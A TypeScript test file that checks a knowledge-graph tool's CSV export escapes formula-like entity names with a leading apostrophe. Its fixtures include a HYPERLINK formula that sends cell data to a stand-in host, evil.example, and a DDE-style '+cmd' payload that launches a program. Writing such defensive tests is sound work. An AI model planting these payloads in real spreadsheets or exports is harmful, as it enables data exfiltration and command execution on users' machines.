import { spawnSync } from "node:child_process";
import { promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { entityId, type Entity } from "../src/model/index.js";
import { writeStore } from "../src/store/store.js";
import { csvObjects } from "./export-helpers.js";
import { STORE_DATA, CHINA } from "./server-fixture.js";

// A CSV opened in a spreadsheet runs a cell starting with = + - @ as a formula. Entity names and
// aliases come from article text, so every CSV kg writes must keep them inert.
const root = path.resolve(import.meta.dirname, "..");
let tmp: string;

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

beforeAll(async () => {
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), "kg-csv-formulas-"));
  // China renamed and aliased by a hostile article: the name stays the id's, the text changes
  const hostile: Entity = { ...CHINA, name: FORMULA, aliases: ["+cmd|' /C calc'!A0", "@SUM(1)"] };
  const entities = STORE_DATA.entities.map((e) => (e.id === CHINA.id ? hostile : e));
  await writeStore(path.join(tmp, "data"), { ...STORE_DATA, entities });
  expect(entityId("Country", "China")).toBe(CHINA.id);
});
afterAll(async () => {
  await fs.rm(tmp, { recursive: true, force: true });
});

describe("CSV exports keep formulas inert", () => {
  it("kg export --format csv writes formula-like names and aliases with a leading apostrophe", async () => {
    const out = path.join(tmp, "csv");
    const r = spawnSync(
      process.execPath,
      ["bin/kg.js", "export", "--data", path.join(tmp, "data"), "--format", "csv", "--out", out],
      { cwd: root, encoding: "utf8" },
    );
    expect(r.status, r.stderr).toBe(0);
    const nodes = csvObjects(await fs.readFile(path.join(out, "nodes.csv"), "utf8"));
    const china = nodes.find((n) => n["id:ID"] === CHINA.id)!;
    expect(china["name:string"]).toBe(`'${FORMULA}`);
    expect(china["aliases:string[]"]).toBe("'+cmd|' /C calc'!A0;@SUM(1)");
    for (const row of nodes) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
    }
  });
});
